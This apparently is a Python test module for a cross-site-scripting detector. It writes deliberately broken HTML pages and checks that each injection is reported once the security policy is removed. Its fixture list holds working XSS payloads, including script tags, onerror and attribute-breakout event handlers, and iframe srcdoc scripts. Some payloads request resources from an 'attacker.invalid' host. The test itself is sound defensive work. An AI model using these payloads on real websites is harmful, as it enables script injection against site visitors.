"""Deliberately broken pages. The check without the policy must report each of them."""

from documents import Words
from observer import Observer
from twins import Twin, without_links
from unguarded import breaches, without_policy

# One line, because browsers refuse to load an address with a line break and a `<` in it.
POLICY = """<meta http-equiv="Content-Security-Policy" content="default-src 'none'"/>"""
PAGE = (
    f'<!DOCTYPE html><html><head><meta charset="utf-8"/>{POLICY}<title>{{}}</title></head>'
    """<body><h1 title="{}">{}</h1><p><a href="https://example.org/{}">It's a link</a></p></body></html>"""
)
FIELDS = ("title", "title attribute", "heading", "address")
PLAIN = ("a", "b", "c", "d")

# The field that is not escaped, its text, and the beginnings of the required reports.
BREAKS = (
    ("heading", "<script>breach()</script>", ("a script ran", "it has")),
    ("heading", "<img src=x onerror=breach()>", ("a script ran", "a request", "it has")),
    ("heading", "<script>alert(1)</script>", ("a dialog",)),
    ("heading", "<script>missing()</script>", ("a script failed",)),
    ("heading", "<script>window.trace = 1</script>", ("it has 'document'",)),
    ("heading", "<script>console.log(1)</script>", ("the console says",)),
    ("heading", "<script>open('about:blank')</script>", ("a window opened",)),
    ("heading", "<b>b</b>", ("it has 'begin'",)),
    ("heading", "<!--", ("it has 'other node'",)),
    ("heading", "&lt;", ("it has 'text'",)),
    ("heading", "<img src='https://attacker.invalid/?", ("a request", "it has")),
    ("heading", "<meta http-equiv=refresh content='0;url=about:blank#x'>", ("a navigation started",)),
    ("heading", "<iframe srcdoc='<script>parent.breach()</script>'></iframe>", ("a script ran",)),
    ("heading", "<style>@import 'https://attacker.invalid/a.css'</style>", ("a request",)),
    ("title", "</title><script>breach()</script>", ("a script ran", "it has")),
    ("title attribute", '" onmouseover="breach()', ("a script ran", "it has")),
    ("title attribute", '" onclick="breach()', ("a script ran",)),
    ("title attribute", '" tabindex="0" onfocus="breach()', ("a script ran",)),
    ("address", '" onpointerenter="breach()', ("a script ran",)),
)


def look(browser, findings, name, folder):
    """Checks that each broken page is reported, and that a correct page is not."""
    folder.mkdir(parents=True, exist_ok=True)
    observer, words, file = Observer(browser), Words(), folder / "broken.html"
    file.write_text(PAGE.format(*map(words, FIELDS)), encoding="utf-8")
    mistakes = [f"policy not found: {mistake}" for mistake in without_policy(file)]
    mistakes += ["found a policy after its removal"] if not without_policy(file) else []
    nodes, found = observer.view(file)
    mistakes += [f"a correct page: {mistake}" for mistake in found]

    def reported(texts):
        file.write_text(PAGE.format(*texts), encoding="utf-8")
        without_policy(file)
        return breaches(observer, file, Twin(nodes), texts)

    mistakes += [f"a correct page: {mistake}" for mistake in reported(PLAIN)]
    for field, text, wanted in BREAKS:
        texts = [text if field == name else plain for name, plain in zip(FIELDS, PLAIN)]
        found = reported(texts)
        missing = [what for what in wanted if not any(mistake.startswith(what) for mistake in found)]
        mistakes += [f"{text} in the {field} is not reported as “{what}”, only as {found}" for what in missing]
    mistakes += leading_away(observer, file)
    observer.close()
    findings.check(name, "each is reported", mistakes)


def leading_away(observer, file):
    """Returns an error unless a link to a script is reported, even if links may be missing."""
    file.write_text('<!DOCTYPE html><title>a</title><p><a href="javascript:breach()">Link</a></p>', encoding="utf-8")
    twin = Twin(without_links(observer.view(file)[0])[0])
    found = breaches(observer, file, twin, [], are_links=True)
    return [] if found == ["a link leads to 'javascript:breach()'"] else [f"a link to a script is reported as {found}"]
